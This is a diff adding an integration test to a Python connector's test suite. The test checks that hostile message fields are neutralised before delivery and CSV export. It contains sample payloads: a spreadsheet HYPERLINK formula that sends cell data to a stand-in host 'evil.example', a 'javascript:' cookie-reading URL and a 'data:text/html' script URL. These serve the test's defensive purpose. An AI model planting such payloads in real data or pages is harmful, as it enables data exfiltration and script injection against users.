@@ -9,6 +9,7 @@ carrying its answer.
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import signal
@@ -423,3 +424,66 @@ def test_sigterm_during_a_backoff_stops_at_once_and_commits_nothing_undecided(
         outcomes.close()
     assert sorted(o["message_id"] for o in records) == sorted(m["message_id"] for m in messages)
     assert {o["outcome"] for o in records} == {"delivered"}  # nothing was decided (nor committed) by the first run
+
+
+def test_hostile_message_fields_reach_the_partner_neutralised(
+    kafka_bootstrap: str, schema_registry_url: str, topics: dict[str, str], standin: StandIn, tmp_path: Path
+) -> None:
+    # Issue 17, item 11: a formula in a text field, a javascript:/data: product URL, on the real topics.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    hostile = message(1)
+    hostile["customer_id"] = formula
+    hostile["products"][0] |= {"url": "javascript:alert(document.cookie)", "image_url": "data:text/html,<script>"}
+    messages = [message(0), hostile]
+    produce_messages(kafka_bootstrap, schema_registry_url, topics["messages"], messages)
+    metrics_port = free_port()
+    bridge = start_bridge(
+        bridge_config(kafka_bootstrap, schema_registry_url, topics, standin.url, metrics_port=metrics_port), tmp_path
+    )
+    try:
+        wait_for(lambda: len(standin.delivered()) == 2, 40, "2 delivered keys", bridge)
+        metrics = httpx.get(f"http://127.0.0.1:{metrics_port}/metrics", timeout=5).text
+    finally:
+        assert bridge.stop() == 0, bridge.tail()
+    requests = standin.requests()
+    assert_same_key_and_body(requests, messages)  # the hostile message went out, whole but for its URLs
+    sent = {r["idempotency_key"]: r["body"] for r in requests}
+    product = sent["seq-1:1"]["products"][0]
+    assert (product["id"], product["url"], product["image_url"]) == ("SKU-1", None, None)
+    assert sent["seq-1:1"]["customer_id"] == formula  # JSON is no spreadsheet: the data as is
+    assert all("javascript" not in json.dumps(r["body"]) and "data:" not in json.dumps(r["body"]) for r in requests)
+    assert "passerelle_emailing_unsafe_urls_total 2.0" in metrics
+    log = bridge.tail(50_000)
+    assert log.count("URL(s) not sent to the partner") == 1 and "products.0.url='javascript:alert" in log
+
+    config_path = tmp_path / "export.json"
+    config_path.write_text(
+        json.dumps(
+            {
+                "bootstrap_servers": kafka_bootstrap,
+                "schema_registry_url": schema_registry_url,
+                "out_dir": str(tmp_path / "exports"),
+                "topic": topics["messages"],
+                "group_id": topics["group"] + "-export",
+                "dead_letter_topic": topics["deadletters"],
+            }
+        )
+    )
+    proc = subprocess.run(
+        [sys.executable, "-m", "connectors.emailing", "--log-level", "WARNING", "export", "--config", str(config_path)],
+        cwd=ROOT,
+        capture_output=True,
+        timeout=60,
+    )
+    assert proc.returncode == 0, proc.stderr.decode()
+    summary = json.loads(proc.stdout)
+    assert (summary["count"], summary["unsafe_urls"]) == (2, 2)
+    assert proc.stderr.decode().count("URL(s) not sent to the partner") == 1
+    csv_text = Path(summary["csv"]).read_text(encoding="utf-8")
+    jsonl_text = Path(summary["jsonl"]).read_text(encoding="utf-8")
+    assert "javascript" not in csv_text + jsonl_text and "data:text" not in csv_text + jsonl_text
+    with Path(summary["csv"]).open(newline="", encoding="utf-8") as f:
+        rows = {row["message_id"]: row for row in csv.DictReader(f)}
+    assert rows["seq-1:1"]["customer_id"] == "'" + formula and rows["seq-0:1"]["customer_id"] == "C-0"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())
+    assert [json.loads(line)["customer_id"] for line in jsonl_text.splitlines()].count(formula) == 1
